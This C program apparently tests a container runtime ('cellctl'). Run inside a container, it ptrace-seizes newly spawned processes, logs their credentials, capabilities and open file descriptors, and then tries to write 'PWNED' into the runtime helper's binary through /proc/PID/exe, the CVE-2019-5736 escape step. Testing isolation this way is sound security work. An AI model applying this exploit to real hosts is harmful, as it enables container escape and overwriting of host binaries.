/* SPDX-License-Identifier: GPL-2.0-or-later */
/* ptrace_seize SECONDS LOG [WRITE_SECONDS]: the attack of issue 10 item 1, run inside a container.
 * For SECONDS it tries PTRACE_SEIZE on the next PIDs of its PID namespace (ns_last_pid + 1..3) and
 * logs every process it catches: comm, credentials, capability sets, exe, open fds (and every
 * live process that refused: REFUSED, with its name). A caught
 * "cellctl" (exec's helper before it ran the command) also has its /proc/PID/exe opened O_PATH;
 * then for WRITE_SECONDS it tries to write through those fds (the CVE-2019-5736 step), logging
 * "WROTE" on success. Static; no libc beyond syscalls' wrappers. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void slurp(const char *path, char *buf, size_t len)
{
	buf[0] = 0;
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, len - 1);
	close(fd);
	buf[n > 0 ? n : 0] = 0;
}

static void field(const char *status, const char *key, char *out, size_t len)
{
	const char *p = strstr(status, key);
	out[0] = 0;
	if (!p)
		return;
	p += strlen(key);
	while (*p == ' ' || *p == '\t')
		p++;
	size_t n = strcspn(p, "\n");
	if (n >= len)
		n = len - 1;
	memcpy(out, p, n);
	out[n] = 0;
	for (char *s = out; *s; s++)
		if (*s == '\t')
			*s = ',';
}

static int grabbed[64], ngrabbed;

static void caught(FILE *log, pid_t p)
{
	int st;
	if (ptrace(PTRACE_INTERRUPT, p, 0, 0) == 0)
		waitpid(p, &st, __WALL);
	char path[64], comm[64], status[4096], uid[64], capbnd[64], capeff[64], exe[256] = "", fds[2048] = "";
	snprintf(path, sizeof(path), "/proc/%d/comm", p);
	slurp(path, comm, sizeof(comm));
	comm[strcspn(comm, "\n")] = 0;
	snprintf(path, sizeof(path), "/proc/%d/status", p);
	slurp(path, status, sizeof(status));
	field(status, "Uid:", uid, sizeof(uid));
	field(status, "CapBnd:", capbnd, sizeof(capbnd));
	field(status, "CapEff:", capeff, sizeof(capeff));
	snprintf(path, sizeof(path), "/proc/%d/exe", p);
	ssize_t n = readlink(path, exe, sizeof(exe) - 1);
	if (n < 0)
		snprintf(exe, sizeof(exe), "(%s)", strerror(errno));
	else
		exe[n] = 0;
	if (strstr(comm, "cellctl") && ngrabbed < 64) {
		int fd = open(path, O_PATH);
		if (fd >= 0)
			grabbed[ngrabbed++] = fd;
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", p);
	DIR *d = opendir(path);
	if (d) {
		struct dirent *de;
		while ((de = readdir(d))) {
			if (de->d_name[0] == '.')
				continue;
			char lp[400], target[256];
			snprintf(lp, sizeof(lp), "%s/%s", path, de->d_name);
			ssize_t k = readlink(lp, target, sizeof(target) - 1);
			target[k > 0 ? k : 0] = 0;
			size_t used = strlen(fds);
			snprintf(fds + used, sizeof(fds) - used, "%s%s->%s", used ? "|" : "", de->d_name, target);
		}
		closedir(d);
	} else {
		snprintf(fds, sizeof(fds), "(%s)", strerror(errno));
	}
	fprintf(log, "CAUGHT pid=%d comm=%s uid=%s capbnd=%s capeff=%s exe=%s fds=%s\n", p, comm, uid, capbnd, capeff,
		exe, fds);
	fflush(log);
	ptrace(PTRACE_DETACH, p, 0, 0);
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: ptrace_seize SECONDS LOG [WRITE_SECONDS]\n");
		return 2;
	}
	double end = now() + atof(argv[1]);
	FILE *log = fopen(argv[2], "a");
	if (!log)
		return 1;
	setvbuf(log, NULL, _IOLBF, 0);
	fprintf(log, "START pid=%d\n", getpid());
	unsigned long tries = 0, eperm = 0;
	while (now() < end) {
		char buf[32];
		slurp("/proc/sys/kernel/ns_last_pid", buf, sizeof(buf));
		pid_t last = atoi(buf);
		for (pid_t p = last + 1; p <= last + 3; p++) {
			tries++;
			if (p == getpid())
				continue;
			if (ptrace(PTRACE_SEIZE, p, 0, 0) == 0) {
				caught(log, p);
			} else if (errno == EPERM) {
				/* refused: a live process (a zombie is refused too: not counted) */
				char path[64], status[4096], comm[64], state[32];
				snprintf(path, sizeof(path), "/proc/%d/status", p);
				slurp(path, status, sizeof(status));
				field(status, "Name:", comm, sizeof(comm));
				field(status, "State:", state, sizeof(state));
				if (state[0] && state[0] != 'Z' && state[0] != 'X') {
					eperm++;
					fprintf(log, "REFUSED pid=%d comm=%s state=%c\n", p, comm, state[0]);
				}
			}
		}
	}
	fprintf(log, "SEIZE-DONE tries=%lu eperm=%lu grabbed=%d\n", tries, eperm, ngrabbed);
	/* the write step: once nothing executes the binary any more (ETXTBSY until then) */
	double wend = now() + (argc > 3 ? atof(argv[3]) : 0);
	for (int i = 0; i < ngrabbed; i++) {
		char path[64];
		snprintf(path, sizeof(path), "/proc/self/fd/%d", grabbed[i]);
		int last_err = 0;
		for (;;) {
			int fd = open(path, O_WRONLY);
			if (fd >= 0) {
				ssize_t w = pwrite(fd, "PWNED", 5, 0);
				last_err = w == 5 ? 0 : errno;
				close(fd);
				if (w == 5) {
					fprintf(log, "WROTE fd=%d\n", grabbed[i]);
					break;
				}
			} else {
				last_err = errno;
			}
			if (now() >= wend || (last_err != ETXTBSY && last_err != 0))
				break;
			usleep(50000);
		}
		if (last_err)
			fprintf(log, "WRITE-FAILED fd=%d: %s\n", grabbed[i], strerror(last_err));
	}
	fprintf(log, "END\n");
	return 0;
}
